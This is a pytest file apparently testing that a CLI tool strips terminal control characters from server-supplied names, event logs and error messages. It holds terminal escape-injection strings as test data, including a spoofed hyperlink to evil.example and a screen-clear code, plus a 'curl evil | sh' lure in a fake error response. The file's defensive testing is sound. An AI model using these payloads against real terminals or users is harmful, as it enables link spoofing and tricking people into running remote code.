"""The CLI never writes a control character that came from the server to a terminal."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text

from ankra_auth import migrate
from ankra_auth.config import Settings
from ankra_auth.db import make_engine
from ankra_cli.output import terminal_safe
from tests.cli.conftest import make_ankra
from tests.cli.live_accounts import PASSWORD, enroll_totp, sign_up, verify_email
from tests.cli.terminal import spawn
from tests.cli.test_cli_commands import _register_passkey
from tests.cli.test_cli_confirmations import use_session
from tests.live_server import service_process
from tests.soft_authenticator import SoftAuthenticator

# What a name stored before the API refused control characters may hold.
HOSTILE = "Acme\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x1b[2J\r\x07\x9b31m\x00 Ltd"
# rich's own styles (bold headers) on a terminal: the only escape codes we write ourselves.
_SGR = re.compile(r"\x1b\[[0-9;]*m")
RAW_CONTROLS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]


def assert_clean(output: str) -> None:
    found = sorted({repr(c) for c in output if c in RAW_CONTROLS})
    assert not found, f"control characters reached the terminal: {found}"


def test_terminal_safe_drops_c0_c1_and_del() -> None:
    assert (
        terminal_safe(HOSTILE, multiline=False)
        == "Acme]8;;https://evil.example\\click]8;;\\[2J31m Ltd"
    )
    assert terminal_safe("two\nlines\tand tab") == "two\nlines\tand tab"
    assert terminal_safe("two\nlines", multiline=False) == "two lines"


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    directory = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{directory / 'ankra.db'}"
    migrate.upgrade(make_engine(Settings(database_url=url, secret_key="x")))
    with service_process(url, log_path=directory / "server.log") as base:
        yield base, url


def test_names_with_escapes_are_printed_inert(live: tuple[str, str], tmp_path: Path) -> None:
    base, url = live
    owner = enroll_totp(sign_up(base))
    org = httpx.post(f"{base}/api/v1/orgs", json={"name": "Acme"}, headers=owner.auth).json()
    member = verify_email(sign_up(base))  # accepting needs a verified address
    r = httpx.post(
        f"{base}/api/v1/orgs/{org['id']}/members", json={"email": member.email}, headers=owner.auth
    )
    assert r.status_code == 201, r.text
    [invitation] = httpx.get(f"{base}/api/v1/invitations", headers=member.auth).json()
    r = httpx.post(f"{base}/api/v1/invitations/{invitation['id']}/accept", headers=member.auth)
    assert r.status_code == 200, r.text
    assert (
        httpx.patch(
            f"{base}/api/v1/orgs/{org['id']}", json={"require_two_factor": True}, headers=owner.auth
        ).status_code
        == 200
    )
    engine = make_engine(Settings(database_url=url, secret_key="x"))
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE orgs SET name = :name WHERE id = :id"), {"name": HOSTILE, "id": org["id"]}
        )
    engine.dispose()

    ankra = make_ankra(base, tmp_path)
    login = ankra.run("login", "--email", member.email, input=f"{PASSWORD}\n")
    assert login.returncode == 0, login.stderr
    human = ankra.run("profile", "auth", "status")
    assert human.returncode == 0, human.stderr
    assert_clean(human.stdout + human.stderr)
    assert "Acme" in human.stdout and "Ltd" in human.stdout
    # --json stays the server's data, escaped: valid JSON and still inert on a terminal
    as_json = ankra.run("profile", "auth", "status", "--json")
    assert as_json.returncode == 0, as_json.stderr
    assert_clean(as_json.stdout)
    assert [o["name"] for o in json.loads(as_json.stdout)["enforced_by"]] == [HOSTILE]


class _HostileServer(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        body = json.dumps(
            {
                "type": "about:blank",
                "title": "x",
                "status": 403,
                "code": "forbidden",
                "detail": "Denied\x1b[2J\x1b]0;owned\x07\r\nRun: curl evil | sh",
            }
        ).encode()
        self.send_response(403)
        self.send_header("Content-Type", "application/problem+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None:
        pass


def test_a_problem_detail_with_escapes_is_printed_inert(tmp_path: Path) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        base = f"http://127.0.0.1:{server.server_address[1]}"
        ankra = make_ankra(base, tmp_path)
        ankra.config_dir.mkdir(parents=True)
        ankra.credentials_file.write_text(
            json.dumps({"server": base, "access_token": "t", "email": "a@example.com"})
        )
        result = ankra.run("profile", "auth", "status")
    finally:
        server.shutdown()
    assert result.returncode == 1
    assert_clean(result.stdout + result.stderr)
    assert "Error: Denied" in result.stderr


def test_questions_tables_and_the_log_print_names_inert(
    live: tuple[str, str], tmp_path: Path
) -> None:
    base, url = live
    account = enroll_totp(sign_up(base))
    passkey = _register_passkey(account, SoftAuthenticator(origin=base), "Key")
    user_id = account.get("/api/v1/me")["id"]
    engine = make_engine(Settings(database_url=url, secret_key="x"))
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE passkeys SET name = :name WHERE id = :id"),
            {"name": HOSTILE, "id": passkey},
        )
        connection.execute(
            text("UPDATE security_events SET detail = :detail WHERE user_id = :user"),
            {"detail": HOSTILE, "user": user_id},
        )
    engine.dispose()
    ankra = make_ankra(base, tmp_path)
    use_session(ankra, account)

    for command in (["events"], ["events", "--all"], ["passkeys", "list"]):
        result = ankra.run("profile", "auth", *command)
        assert result.returncode == 0, result.stderr
        assert_clean(result.stdout + result.stderr)
        assert "Ltd" in result.stdout

    # The [y/N] question names the passkey, at a real terminal.
    terminal = spawn(ankra, "profile", "auth", "passkeys", "remove", passkey[:8])
    terminal.expect("will be removed")
    terminal.send("n")
    assert terminal.finish() == 1
    shown = _SGR.sub("", bytes(terminal.output).decode()).replace("\r\n", "\n")
    assert_clean(shown)
    assert "Acme" in shown and "Ltd" in shown
